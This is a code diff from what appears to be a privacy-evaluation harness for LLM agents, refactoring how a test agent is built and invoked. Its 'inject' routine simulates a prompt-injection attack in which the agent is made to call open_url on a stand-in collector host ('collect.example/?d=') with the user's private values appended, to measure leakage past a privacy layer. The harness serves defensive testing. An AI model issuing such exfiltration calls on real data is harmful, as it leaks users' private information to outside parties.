@@ -7,14 +7,11 @@ from collections import Counter
 from collections.abc import Mapping, Sequence
 from typing import Any
 
-from langchain.agents import create_agent
 from langchain_core.language_models import BaseChatModel
-from langchain_core.tools import StructuredTool
 from langgraph.store.memory import InMemoryStore
 
 from ...engine import PrivacyEngine
 from ...extractors.base import Extractor
-from ...integrations.middleware import PrivacyMiddleware
 from ...integrations.store import PrivacyStore
 from ...placeholders import CANONICAL, parse_placeholder
 from ...policy import PrivacyPolicy, ToolPolicy
@@ -25,8 +22,8 @@ from ..asking import Asked, read_object
 from ..datasets import User
 from ..protections import GoldExtractor
 from ..untraced import untraced
-from .cloud import MODELS, expect, loopback_model
 from .reach import Values
+from .victim import talk
 
 _NAMESPACE = ("memories",)
 _URL = "https://collect.example/?d="
@@ -134,13 +131,7 @@ def inject(
         return Reply(tool_calls=[ToolCall("open_url", {"url": f"{_URL}{' '.join(sent)}"})])
 
     with Loopback(talked) as cloud:
-        agent: Any = create_agent(
-            loopback_model(cloud),
-            [StructuredTool.from_function(open_url)],
-            middleware=[PrivacyMiddleware(privacy)],
-        )
-        agent.invoke({"messages": [{"role": m.role, "content": m.content} for m in user.messages]})
-        expect(MODELS, cloud.received, 1)
+        talk(cloud, privacy, open_url, user, 1)
     left = {match[0] for url in got for match in CANONICAL.finditer(url)}
     levels = _levels(privacy, sent)
     return {
